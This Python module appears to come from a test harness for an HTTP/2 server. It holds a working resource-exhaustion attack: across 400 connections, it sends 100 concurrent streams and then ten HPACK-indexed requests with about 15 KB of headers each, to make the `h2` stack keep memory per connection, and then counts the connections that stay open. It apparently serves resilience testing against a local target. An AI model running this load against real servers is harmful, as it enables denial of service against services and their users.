"""Idle HTTP/2 connections that had a hundred streams at once, and ten heads of 15 KB whose paths
HPACK remembers.

What `h2` keeps of them until a connection ends is eight times each what an idle
connection takes otherwise.
"""

import frames
from attack import Attack, still_open

ATTACK = Attack(configurations=("deployments", "static"))
CONNECTIONS = 400
STREAMS, HEADS = 100, 10


async def ended(reader, count):
    """Waits until that many streams have ended."""
    parser = frames.Parser()
    while count > 0:
        data = await reader.read(1 << 14)
        if not data:
            raise EOFError
        count -= sum(kind == frames.RST_STREAM or bool(stream and flags & frames.END_STREAM)
                     for kind, flags, stream, _ in parser.take(data))


def large(stream):
    fields = b"".join(frames.field(b"x-%d" % part, b"v" * 7600) for part in range(2))
    path = b"\x44" + frames.string(b"/small?%d" % stream)
    return frames.request(stream, b"\x82\x87" + path + b"\x01" + frames.string(b"localhost") + fields)


async def one(target):
    reader, writer = await target.http2(frames.opening() + frames.window_update(0, 1 << 24))
    writer.write(b"".join(
        frames.request(1 + 2 * number, frames.head(b"/small")) for number in range(STREAMS)))
    await ended(reader, STREAMS)
    writer.write(b"".join(large(1 + 2 * number) for number in range(STREAMS, STREAMS + HEADS)))
    await ended(reader, HEADS)
    return reader, writer


async def run(target):
    opened = await target.many(CONNECTIONS, lambda _: one(target))
    await target.wait()
    return f"{len(opened)} connections that had much, {still_open(opened)} stayed"
